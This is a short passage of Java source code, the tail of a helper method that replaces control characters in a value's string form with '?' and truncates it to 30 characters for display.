		String text = String.valueOf(value).replaceAll("\\p{Cntrl}", "?");
		return text.length() > 30 ? text.substring(0, 30) + "..." : text;
	}

}
